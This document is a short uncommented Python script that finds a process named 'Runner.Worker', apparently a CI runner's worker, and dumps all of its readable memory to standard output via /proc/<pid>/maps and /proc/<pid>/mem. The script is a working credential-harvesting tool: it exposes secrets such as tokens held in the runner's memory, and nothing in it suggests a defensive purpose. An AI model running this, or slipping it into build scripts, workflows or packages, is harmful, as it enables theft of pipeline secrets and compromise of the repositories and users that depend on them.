import sys,os,re
def pid():
    for p in os.listdir('/proc'):
        if p.isdigit():
            try:
                with open('/proc/%s/cmdline'%p,'rb') as f:
                    if b'Runner.Worker' in f.read(): return p
            except Exception: pass
p=pid()
if not p: sys.exit(0)
maps=open('/proc/%s/maps'%p).read().splitlines()
mf=open('/proc/%s/mem'%p,'rb',0)
for l in maps:
    m=re.match(r'([0-9a-f]+)-([0-9a-f]+) r',l)
    if not m: continue
    s,e=int(m.group(1),16),int(m.group(2),16)
    try:
        mf.seek(s); sys.stdout.buffer.write(mf.read(e-s))
    except Exception: pass
